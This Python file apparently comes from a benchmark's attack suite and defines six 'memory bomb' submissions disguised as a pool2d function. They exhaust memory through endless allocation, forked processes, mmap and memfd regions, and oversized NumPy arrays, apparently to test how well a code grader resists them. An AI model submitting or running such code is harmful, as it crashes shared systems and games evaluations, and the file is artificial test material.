"""Class 11: memory bomb."""

from __future__ import annotations

from collections.abc import Iterator

from benchmarks.attacks.case import (
    Attack,
    answer,
)


def attacks() -> Iterator[Attack]:
    yield answer(11, "lists", """
        def pool2d(x, size, stride=None, mode='max'):
            hoard = []
            while True: hoard.append(bytearray(10**8))
    """, heavy=True)  # fmt: skip
    yield answer(11, "in many processes", """
        import os, time
        def pool2d(x, size, stride=None, mode='max'):
            for _ in range(6):
                if os.fork() == 0:
                    hoard = bytearray(b'x') * (10**9)
                    time.sleep(60)
                    os._exit(0)
            time.sleep(8)
            return x
    """, heavy=True)  # fmt: skip
    yield answer(11, "shared, and nobody's", """
        import mmap, os
        def pool2d(x, size, stride=None, mode='max'):
            hoard = []
            for _ in range(5):
                try: hoard.append(mmap.mmap(-1, 10**9)); hoard[-1].write(bytes(10**9))
                except OSError: pass
                try: os.write(os.memfd_create('hoard'), bytes(10**9))
                except OSError: pass
            return x
    """, heavy=True)  # fmt: skip
    yield answer(11, "one number, said to be ten billion", """
        def pool2d(x, size, stride=None, mode='max'):
            return np.broadcast_to(1.0, (10**10,))
    """)  # fmt: skip
    yield answer(11, "one array", """
        def pool2d(x, size, stride=None, mode='max'):
            return np.ones((10**6, 10**6))
    """)  # fmt: skip
    yield answer(11, "in a cell", "hoard = []\nwhile True: hoard.append(bytearray(10**8))\n", heavy=True)
